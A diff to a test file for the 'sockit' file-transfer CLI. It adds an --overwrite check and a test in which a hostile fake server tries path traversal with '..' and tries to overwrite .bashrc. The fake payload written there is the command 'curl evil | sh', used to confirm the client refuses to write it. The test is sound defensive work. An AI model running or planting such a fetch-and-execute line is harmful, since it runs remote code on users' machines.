@@ -10,6 +10,7 @@ import { mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { FAKE_PASSWORD, fakeServer } from '../files/fake-server.js';
 import { CLI, type Server, sockit, startServer } from '../helpers.js';
 
 const env = { ...process.env, SOCKIT_PASSWORD: 'a long pass phrase' };
@@ -117,9 +118,19 @@ describe('sockit files', () => {
     }
 
     // Into an existing folder, like cp: under the remote name.
-    const into = await sockit(['files', 'download', target, 'backup/photos/a.jpg', back, '--user', 'ann'], {
-      env,
-    });
+    // a.jpg is there already from the folder download: replaced only with --overwrite.
+    const refused = await sockit(
+      ['files', 'download', target, 'backup/photos/a.jpg', back, '--user', 'ann'],
+      {
+        env,
+      },
+    );
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toMatch(/^sockit: .* \[ERR_EXISTS\]\n$/);
+    const into = await sockit(
+      ['files', 'download', target, 'backup/photos/a.jpg', back, '--user', 'ann', '--overwrite'],
+      { env },
+    );
     expect(into.code, into.stderr).toBe(0);
     expect(sha(await readFile(path.join(back, 'a.jpg')))).toBe(sha(files['a.jpg'] as Buffer));
 
@@ -222,4 +233,43 @@ describe('sockit files', () => {
     await rm(big);
     await rm(dest);
   }, 300_000);
+
+  it("a hostile server's '..' and .bashrc write nothing outside; a reset is one line with a code", async () => {
+    const home = path.join(dir, 'victim');
+    const downloads = path.join(home, 'downloads');
+    await mkdir(downloads, { recursive: true });
+    await writeFile(path.join(home, '.bashrc'), 'mine');
+    const evil = Buffer.from('curl evil | sh\n');
+    const hostile = await fakeServer((request, peer) => {
+      if (request.op === 'stat')
+        peer.send({ ok: true, entry: { path: '..', type: 'dir', size: 0, mtime: 0 } });
+      else if (request.op === 'list')
+        peer.send(
+          { ok: true, count: 1 },
+          Buffer.from(JSON.stringify([{ path: '.bashrc', type: 'file', size: evil.length, mtime: 0 }])),
+        );
+      else if (request.op === 'get') {
+        peer.send({ ok: true, size: evil.length, from: 0, mtime: 0 });
+        peer.raw(evil);
+        peer.send({ ok: true, sha256: sha(evil) });
+      } else if (request.op === 'rm') peer.reset();
+    });
+    try {
+      const where = `127.0.0.1:${hostile.port}`;
+      const fake = { env: { ...env, SOCKIT_PASSWORD: FAKE_PASSWORD } };
+      // Into an existing folder: the name comes from the server's stat answer.
+      const down = await sockit(['files', 'download', where, 'photos', downloads, '--user', 'ann'], fake);
+      expect(down.code).toBe(1);
+      expect(down.stderr).toMatch(/^sockit: [^\n]* \[ERR_BAD_REQUEST\]\n$/);
+      expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('mine');
+      expect(await readdir(home)).toEqual(['.bashrc', 'downloads']);
+      expect(await readdir(downloads)).toEqual([]);
+
+      const reset = await sockit(['files', 'rm', where, 'x', '--user', 'ann'], fake);
+      expect(reset.code).toBe(1);
+      expect(reset.stderr).toMatch(/^sockit: [^\n]* \[ERR_CONNECTION_CLOSED\]\n$/);
+    } finally {
+      await hostile.close();
+    }
+  });
 });
